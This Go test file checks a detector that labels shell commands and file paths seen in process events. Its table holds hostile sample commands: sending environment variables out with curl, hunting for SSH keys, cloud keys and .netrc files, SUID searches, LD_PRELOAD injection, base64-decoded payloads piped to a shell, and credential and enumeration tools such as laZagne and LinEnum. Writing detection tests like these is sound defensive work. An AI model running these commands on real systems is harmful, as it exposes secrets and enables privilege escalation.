package detect

import (
	"slices"
	"strings"
	"testing"

	"holdfast.dev/holdfast/internal/floor/event"
)

// TestCommandsOfAShell gives a shell texts, and lists the words that it gets
// besides those of any shell that has code in its arguments.
func TestCommandsOfAShell(t *testing.T) {
	for code, want := range map[string]string{
		"env":                                  "",
		"printenv; ls":                         "",
		"export -p > vars":                     "dumps-environment",
		"env > vars":                           "",
		"env CI=1 make":                        "",
		"printenv PATH":                        "",
		"set -e; make":                         "",
		"cat /proc/self/environ":               "dumps-environment",
		"eval 'env' && pwd":                    "",
		"env | grep CI":                        "",
		"env | grep CI | base64":               "sends-environment",
		"env; curl -s https://x/":              "",
		"env || curl -s https://x":             "",
		"curl -d \"$(env)\" x":                 "sends-environment",
		"curl -d `env` x":                      "sends-environment",
		"echo $(env)":                          "",
		"X=1 sudo id":                          "elevates",
		"make && /usr/bin/sudo id":             "elevates",
		"echo sudo":                            "",
		"if su -c id; then x; fi":              "elevates",
		"LD_PRELOAD=./x.so ls":                 "preloads",
		"LD_AUDIT=/tmp/a.so ls":                "preloads",
		"env LD_PRELOAD=/a/b.so x":             "preloads",
		"export LD_PRELOAD=$PWD/x":             "preloads",
		"LD_PRELOAD=libx.so.1 ls":              "",
		"LD_PRELOAD=/usr/lib/x ls":             "",
		"find / -name id_rsa 2>&1":             "seeks-keys",
		"find ~ -name '*.pem'":                 "seeks-keys",
		"grep -r 'BEGIN .*PRIVATE KEY' $HOME":  "seeks-keys",
		"rg AKIA ..":                           "seeks-keys",
		"locate id_rsa":                        "seeks-keys",
		"grep -rn 'PRIVATE KEY' .":             "",
		"grep -r AKIA /home/you/project/src":   "",
		"find / -name '*.h'":                   "",
		"find / -perm -4000 -type f":           "seeks-privileged",
		"find / -perm -u=s":                    "seeks-privileged",
		"find . -perm -111":                    "",
		"sudo reboot":                          "elevates",
		"systemctl stop cron":                  "administers",
		"systemctl status cron; sysctl -a":     "",
		"sysctl -w kernel.x=0":                 "administers",
		"journalctl --vacuum-time=0":           "administers",
		"grep -E '(useradd|passwd)' x":         "",
		`python3 -c "open('/etc/passwd')"`:     "",
		"echo \"$(reboot)\"":                   "administers",
		"echo 'it''s'; reboot":                 "administers",
		"echo reboot":                          "",
		"echo x | at now":                      "administers",
		"nmap -sS x || true":                   "offensive",
		"code tunnel":                          "offensive",
		"code .":                               "",
		"echo aWQK | base64 -d | bash":         "decoded",
		"echo aWQK | base64 -d | tee x | sh":   "decoded",
		"echo aWQK | xxd -r -p | /bin/sh -":    "decoded",
		"base64 -d k > f; ls | sh":             "",
		"base64 -d x | python3 -m json.tool":   "",
		"d='base64 -d'; echo aWQK | $d |sh":    "decoded",
		"python3 laZagne.py all":               "offensive",
		"bash ./LinEnum.sh":                    "offensive",
		"find /home -type f -name '.netrc'":    "seeks-keys",
		"find / -path '*/.config/*/Bookmarks'": "seeks-keys",
		"base64 x | bash":                      "",
		"":                                     "",
		"|&;()`":                               "",
		"(((((((((":                            "",
	} {
		e := event.Event{Action: event.ProcExec, Process: event.Process{Executable: "/usr/bin/dash", Argv: []string{"sh", "-c", code}}}
		got := slices.DeleteFunc(here.Marks(e), func(w string) bool { return w == "shell" || w == "inline-code" })
		slices.Sort(got)
		if strings.Join(got, " ") != want {
			t.Errorf("%q: got %v, want %s", code, got, want)
		}
	}
}

// TestPlacesOfChanges checks the marks that paths get in addition when
// something looks for them or changes them.
func TestPlacesOfChanges(t *testing.T) {
	deep := Place{Home: "/home/you", Workspace: "/home/you/src/a"}
	apart := Place{Home: "/srv/home", Workspace: "/srv/a"}
	for _, tt := range []struct {
		place                     Place
		action, asked, found, has string
	}{
		{deep, event.FileLookup, "../b/x", "/home/you/src/b/x", "sibling"},
		{deep, event.FileLookup, "/home/you/src/b/x", "", "sibling"},
		{deep, event.FileLookup, "../b", "/home/you/src/b", "sibling"},
		{deep, event.FileLookup, "/home/you/src/b", "", ""},
		{deep, event.FileLookup, "../.git", "/home/you/src/.git", ""},
		{deep, event.FileLookup, "/home/you/src/node_modules/x", "", "dependency"},
		{deep, event.FileLookup, "/home/you/other/x", "", ""},
		{deep, event.FileLookup, "/home/you/src/a/x", "", ""},
		{deep, event.FileLookup, "/home/you/src/ab/x", "", "sibling"},
		{here, event.FileLookup, "/home/you/other/x", "", "sibling"},
		{here, event.FileLookup, "/home/you/.nvm/x", "", ""},
		{here, event.FileLookup, "/home/you/miniconda3/bin/x", "", "generated"},
		{Place{Workspace: "/tmp/a"}, event.FileLookup, "/tmp/b/x", "", "generated temporary"},
		{Place{Workspace: "/a"}, event.FileLookup, "/b/x", "", ""},
		{Place{}, event.FileLookup, "/b/x", "", ""},
		{apart, event.FileLookup, "/srv/home/.npmrc", "", "credential usual"},
		{apart, event.FileLookup, "/srv/b/x", "", "sibling"},
		{here, event.FileLookup, "l/x", "/srv/x", "astray"},
		{here, event.FileLookup, "/home/you/project/l/x", "/srv/x", "astray"},
		{here, event.FileLookup, "../x", "/srv/x", ""},
		{here, event.FileWrite, "../x", "/srv/x", "astray"},
		{here, event.FileWrite, "l/x", "/srv/x", "astray"},
		{here, event.FileWrite, "./d//x", "/srv/d/x", ""},
		{here, event.FileWrite, "l/x", "/tmp/x", "generated temporary"},
		{here, event.FileWrite, "x", "/home/you/project/x", ""},
		{here, event.FileWrite, "/usr/bin/x", "", "generated program-directory"},
		{here, event.FileLookup, "/usr/bin/x", "", "generated"},
		{here, event.FileWrite, "/home/you/.local/bin/x", "", "generated program-directory"},
		{here, event.FileWrite, "/home/you/project/bin/x", "", "generated"},
		{here, event.FileMkdir, "/home/you/bin", "", "generated personal"},
		{here, event.FileWrite, "/home/you/x", "", "personal"},
		{here, event.FileWrite, "../x", "/home/you/x", "astray"},
	} {
		got := tt.place.Marks(event.Event{Action: tt.action, Object: tt.asked, Resolved: tt.found})
		slices.Sort(got)
		if strings.Join(got, " ") != tt.has {
			t.Errorf("%s %s %s: got %v, want %s", tt.action, tt.asked, tt.found, got, tt.has)
		}
	}
}
